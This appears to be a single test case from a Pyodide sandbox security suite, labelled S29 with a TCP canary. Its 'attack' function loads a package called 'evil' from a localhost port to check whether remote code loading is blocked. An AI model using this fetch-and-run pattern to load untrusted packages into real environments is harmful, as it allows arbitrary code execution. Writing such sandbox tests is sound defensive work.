"""A package loaded from an address.

id: S29
canary: tcp
"""

import pyodide_js


async def attack(target):
    return await pyodide_js.loadPackage(f"http://127.0.0.1:{target.tcp}/evil-1-py3-none-any.whl")
